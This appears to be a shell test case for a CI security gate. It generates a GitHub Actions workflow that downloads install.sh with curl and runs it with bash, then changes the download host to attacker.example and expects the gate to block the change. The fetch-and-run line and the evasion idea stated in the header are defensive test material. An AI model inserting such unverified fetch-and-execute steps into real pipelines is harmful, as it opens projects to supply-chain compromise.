# attack: a workflow already runs an unverified download (a tolerated old finding on the run line); the change edits only the download line to fetch from another host, so the finding's line and text stay the same
# surface: staged, range
# expect: block
new_repo
sha=11bd71901bbe5b1630ceea73d27597364c9af683
workflow() {
  printf 'name: ci\non: push\npermissions:\n  contents: read\n'
  printf 'jobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n'
  printf '      - uses: actions/checkout@%s\n      - run: |\n' "$sha"
  printf '          curl -fsSLo install.sh https://%s/install.sh\n' "$1"
  printf '          bash install.sh\n'
}
mkdir -p .github/workflows
workflow tools.example >.github/workflows/ci.yml
commit 'old unverified download'
base=$(git rev-parse HEAD)
workflow attacker.example >.github/workflows/ci.yml
git add -A
gate block check --staged
commit 'mirror'
gate block check --base "$base" --head HEAD
